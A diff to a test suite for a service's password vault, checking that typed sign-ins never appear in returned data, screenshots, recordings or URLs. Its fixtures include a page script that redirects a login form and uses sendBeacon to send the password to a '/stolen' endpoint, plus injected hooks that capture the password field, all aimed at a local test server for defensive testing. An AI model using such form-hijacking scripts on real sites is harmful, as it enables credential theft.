@@ -1,10 +1,10 @@
 // The vault: sign-ins are typed where they belong and nowhere else, and nothing that is stored or returned has them.
-import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { beforeAll, describe, expect, it } from 'vitest'
 import { WebSocket } from 'ws'
-import { type Pages, type Site, startSite } from '../site/site.ts'
+import type { Pages } from '../site/site.ts'
 import { holders } from './raw-bytes.ts'
 import { openReceiver } from './receiver.ts'
-import { type Service, startService } from './service.ts'
+import { shared } from './shared.ts'
 import { until } from './waiting.ts'
 
 const USER = 'marker-user-7f31'
@@ -12,6 +12,7 @@ const PASSWORD = 'marker-pass-9c02'
 const KEY = 'GEZDGNBVGY3TQOJQGEZDGNBVGY3TQOJQ'
 
 let codes: string[] = []
+const stolen: string[] = []
 const page = (body: string) => `<!doctype html><title>Shop</title><main><h1>Sign in</h1>${body}</main>`
 const form = (action = '') => `<form id="f" action="${action}"><label>User name <input id="u" name="u"></label>
   <label>Password <input id="p" name="p" type="password"></label><button>Sign in</button></form>`
@@ -33,6 +34,31 @@ const pages: Pages = {
   '/login': html(page(form() + SCRIPT)),
   '/elsewhere': html(page(form('http://localhost:1/take'))),
   '/button-elsewhere': html(page(form().replace('<button>', '<button formaction="http://localhost:1/take">'))),
+  '/hijack': ({ response, port }) =>
+    void response.writeHead(200, { 'content-type': 'text/html' }).end(
+      page(`${form('/check')}<script>f.method = 'post'
+        f.addEventListener('submit', () => { f.action = 'http://localhost:${port}/stolen?' + p.value
+          navigator.sendBeacon('http://localhost:${port}/stolen?beacon', p.value) })</script>`),
+    ),
+  '/stolen': ({ url, response }) => {
+    stolen.push(url.search)
+    response.end('ok')
+  },
+  '/by-get': html(page(form('/shown'))),
+  '/plain': html(page(form('/shown').replace('id="f"', 'id="f" method="post"'))),
+  '/shown': html(
+    `<!doctype html><title>Shop</title><h1>Welcome</h1><a href="#" id="go" onclick="document.title = 'pressed'">Go</a>`,
+  ),
+  '/drawings': html(
+    page(`${form()}<script>f.onsubmit = (event) => { event.preventDefault()
+      const [user, pass] = [u.value, p.value], half = pass.length / 2
+      document.body.innerHTML = '<h1>Welcome</h1><svg width=600 height=60><text y=40 font-size=32>' + pass + '</text></svg><p id=split style="font-size:32px"></p>' +
+        '<p id=pseudo data-it="' + pass + '" style="font-size:32px"></p><canvas width=600 height=60></canvas><p style="font-size:32px">The end of it</p>'
+      for (const part of [pass.slice(0, half), pass.slice(half)]) split.append(part)
+      const style = document.createElement('style'); style.textContent = '#pseudo::before { content: attr(data-it) }'; document.head.append(style)
+      const pen = document.querySelector('canvas').getContext('2d'); pen.font = '32px sans-serif'; pen.fillText(pass, 0, 40)
+    }</script>`),
+  ),
   '/framed': ({ response, port }) =>
     void response
       .writeHead(200, { 'content-type': 'text/html' })
@@ -48,18 +74,11 @@ const pages: Pages = {
   },
 }
 
-let site: Site
-let service: Service
+const { site, service } = shared(pages, { names: { localhost: { a: ['127.0.0.1'] } } })
 
 beforeAll(async () => {
-  site = await startSite(pages)
-  service = await startService({ env: { ORB_VAULT_LOOPBACK_HTTP: 'on', ORB_ALLOW_PRIVATE: '127.0.0.1,localhost' } })
   const entry = { domain: '127.0.0.1', username: USER, password: PASSWORD, totp: `otpauth://totp/shop?secret=${KEY}` }
   expect((await service.call('PUT', '/v2/vault/shop', entry)).status).toBe(200)
-})
-afterAll(async () => {
-  await service?.stop()
-  await site?.close()
 })
 
 async function signIn(url: string) {
@@ -78,9 +97,9 @@ const execute = (id: string, code: string) =>
 /** A recorded session that shows this page. */
 async function session(path: string, webhook?: object) {
   const { id, liveViewUrl } = (await service.call('POST', '/v2/interact', { recordSession: true, webhook })).json
-  await execute(id, `await page.goto('${site.url}${path}')`)
   const prompt = async (text: string) =>
     (await service.call('POST', `/v2/interact/${id}/prompt`, { prompt: text, timeout: 90 })).json
+  expect(await prompt(`Open ${site.url}${path}`)).toMatchObject({ exitCode: 0 })
   return { id, liveViewUrl, prompt, end: () => service.call('DELETE', `/v2/interact/${id}`) }
 }
 
@@ -139,6 +158,136 @@ describe('the vault', () => {
     expect(JSON.stringify(json)).not.toMatch(/marker/)
   })
 
+  it('sends nothing elsewhere while it types, also where the page changes the form on submit', async () => {
+    const { json } = await signIn(`${site.url}/hijack`)
+    expect(JSON.stringify(json)).not.toMatch(/marker/)
+    expect(stolen).toEqual([])
+  })
+
+  it('masks what a form writes into an address', async () => {
+    const { json } = await service.call('POST', '/v2/scrape', {
+      url: `${site.url}/by-get`,
+      formats: ['markdown', 'rawHtml', 'links'],
+      actions: [{ type: 'login', vault: 'shop' }, { type: 'scrape' }],
+    })
+    expect(json.data.metadata.url).toContain('/shown?u=')
+    expect(JSON.stringify(json)).not.toMatch(/marker/)
+    const { id, prompt, end } = await session('/by-get')
+    const seen = [await prompt('sign in with vault:shop'), await prompt('Read the text of the page')]
+    seen.push((await service.call('GET', `/v2/interact/${id}/steps?ended=true`)).json)
+    await end()
+    const { recordingUrl } = (await service.call('GET', `/v2/interact/${id}`)).json
+    seen.push(await (await fetch(recordingUrl)).text())
+    expect(JSON.stringify(seen)).toMatch(/shown/)
+    expect(JSON.stringify(seen)).not.toMatch(/marker/)
+  })
+
+  it('paints over drawings, parts of texts and generated content', async () => {
+    const { json } = await service.call('POST', '/v2/scrape', {
+      url: `${site.url}/drawings`,
+      formats: ['markdown', 'rawHtml', { type: 'screenshot', fullPage: true }],
+      actions: [{ type: 'login', vault: 'shop' }],
+    })
+    expect(json.data.markdown).toContain('The end of it')
+    expect(JSON.stringify(json)).not.toMatch(/marker|9c02/)
+    const shown = await readByOcr(Buffer.from(await (await fetch(json.data.screenshot)).arrayBuffer()))
+    expect(shown).toMatch(/the end/i)
+    expect(shown).not.toMatch(/mark|pass|9c|02/i)
+  })
+
+  const HOOK = `window.got = ''; p.addEventListener('input', () => { got = p.value }); 1`
+  const scrapeWith = async (path: string, ...actions: object[]) =>
+    (await service.call('POST', '/v2/scrape', { url: `${site.url}${path}`, formats: ['rawHtml'], actions })).json
+
+  it('keeps code of the caller out of the document before and after it types', async () => {
+    const login = { type: 'login', vault: 'shop' }
+    const read = { type: 'executeJavascript', script: 'btoa(document.querySelector("#p")?.value ?? location.href)' }
+    const before = await scrapeWith('/login', { type: 'executeJavascript', script: HOOK }, login, read)
+    expect(before).toMatchObject({ success: false, error: expect.stringContaining('code of the caller has run') })
+    const after = await scrapeWith('/login', login, read)
+    expect(after).toMatchObject({ success: false, error: expect.stringContaining('typed in this document') })
+    const inAddress = await scrapeWith('/by-get', login, read)
+    expect(inAddress.error).toContain('typed in this document')
+    const next = await scrapeWith('/plain', login, { type: 'executeJavascript', script: 'document.title' })
+    expect(next.data.actions.javascriptReturns).toEqual([{ type: 'string', value: 'Shop' }])
+  })
+
+  it('lets code run where the entry says so, and masks what it returns', async () => {
+    const entry = { domain: '127.0.0.1', username: USER, password: PASSWORD, code: true }
+    await service.call('PUT', '/v2/vault/open', entry)
+    const read = { type: 'executeJavascript', script: '({ [got]: got, body: document.body.outerHTML })' }
+    const actions = [{ type: 'executeJavascript', script: HOOK }, { type: 'login', vault: 'open' }, read]
+    const { data } = await scrapeWith('/drawings', ...actions, { type: 'scrape' })
+    expect(data.actions.javascriptReturns[1].value.body).toContain('Welcome')
+    expect(data.actions.scrapes[0].html).toContain('Welcome')
+    expect(JSON.stringify(data)).not.toMatch(/marker|9c02/)
+  })
+
+  it('keeps sessions for code apart from those that sign in', async () => {
+    const coded = await session('/login')
+    await execute(coded.id, HOOK.replace('window.got', 'await page.title(); globalThis.got').replace(/; p\..*/, ''))
+    expect(await coded.prompt('sign in with vault:shop')).toMatchObject({
+      exitCode: 1,
+      output: expect.stringContaining('code of the caller has run'),
+    })
+    await coded.end()
+    const signed = await session('/login')
+    expect(await signed.prompt('sign in with vault:shop')).toMatchObject({ exitCode: 0 })
+    expect(await execute(signed.id, '1')).toMatchObject({
+      status: 403,
+      json: { error: expect.stringContaining('vault') },
+    })
+    const { cdpUrl } = (await service.call('GET', `/v2/interact/${signed.id}`)).json
+    const socket = new WebSocket(cdpUrl)
+    expect(await new Promise((resolve) => socket.on('error', ({ message }) => resolve(message)))).toContain('403')
+    await signed.end()
+  })
+
+  it('is for keys with its right, and an entry for the keys and flows that it lists', async () => {
+    const make = async (body: object) => (await service.call('POST', '/v2/admin/keys', { name: 'k', ...body })).json
+    const plain = await make({})
+    const right = await make({ rights: ['vault'] })
+    const as = (key: string, method: string, path: string, body?: object) =>
+      service.call(method, path, body, { authorization: `Bearer ${key}` })
+    const entry = { domain: '127.0.0.1', username: USER, password: PASSWORD }
+    for (const [method, path, body] of [
+      ['GET', '/v2/vault'],
+      ['PUT', '/v2/vault/mine', entry],
+      ['DELETE', '/v2/vault/shop'],
+      ['PUT', '/v2/flow/mine', { steps: [{ type: 'login', vault: 'shop' }] }],
+    ] as const)
+      expect((await as(plain.key, method, path, body)).status, `${method} ${path}`).toBe(403)
+    const scrape = (key: string, action: object = { type: 'login', vault: 'mine' }) =>
+      as(key, 'POST', '/v2/scrape', { url: `${site.url}/plain`, formats: ['rawHtml'], actions: [action] })
+    expect((await as(right.key, 'PUT', '/v2/vault/mine', entry)).status).toBe(200)
+    expect((await scrape(plain.key)).json.error).toContain('the right `vault`')
+    expect((await scrape(right.key)).json.error).toBeUndefined()
+    await as(right.key, 'PUT', '/v2/vault/mine', { ...entry, keys: [plain.data.id] })
+    expect((await scrape(right.key)).json.error).toContain('not for this key')
+    await as(right.key, 'PUT', '/v2/vault/mine', { ...entry, flows: ['enter'] })
+    await as(right.key, 'PUT', '/v2/flow/enter', { steps: [{ type: 'login', vault: 'mine' }] })
+    expect((await scrape(right.key)).json.error).toContain('other flows: enter')
+    expect((await scrape(right.key, { type: 'flow', name: 'enter' })).json.error).toBeUndefined()
+    expect((await as(right.key, 'GET', '/v2/vault')).json.entries[0]).toMatchObject({ name: 'mine', flows: ['enter'] })
+    const { id } = (await service.call('POST', '/v2/interact', {})).json
+    const prompted = { prompt: `Open ${site.url}/plain` }
+    expect((await as(plain.key, 'POST', `/v2/interact/${id}/prompt`, prompted)).json.exitCode).toBe(0)
+    const signing = { prompt: 'sign in with vault:shop' }
+    expect((await as(plain.key, 'POST', `/v2/interact/${id}/prompt`, signing)).json.output).toContain(
+      'the right `vault`',
+    )
+    await service.call('DELETE', `/v2/interact/${id}`)
+    const scraper = await make({ endpoints: ['scrape', 'batch-scrape'], rights: ['vault'] })
+    for (const action of [
+      { type: 'flow', name: 'enter' },
+      { type: 'login', vault: 'shop' },
+    ])
+      expect(await scrape(scraper.key, action)).toMatchObject({ status: 403 })
+    const batch = { urls: [`${site.url}/plain`], actions: [{ type: 'flow', name: 'enter' }] }
+    expect((await as(scraper.key, 'POST', '/v2/batch/scrape', batch)).status).toBe(403)
+    expect((await as(scraper.key, 'POST', '/v2/flow/enter/run', {})).status).toBe(403)
+  })
+
   it('signs in by a prompt, which is recorded by the name of the entry', async () => {
     const { id, prompt, end } = await session('/login')
     const odd = await prompt('Sign in with vault:shop in turquoise')
@@ -165,7 +314,7 @@ describe('the vault', () => {
   })
 
   it('waits for a code that was sent to a person, and says so', async () => {
-    const entry = { domain: '127.0.0.1', username: USER, password: PASSWORD }
+    const entry = { domain: '127.0.0.1', username: USER, password: PASSWORD, code: true }
     await service.call('PUT', '/v2/vault/mailed', entry)
     const receiver = await openReceiver()
     const { id, prompt, liveViewUrl, end } = await session('/login', { url: receiver.url, metadata: { for: 'me' } })
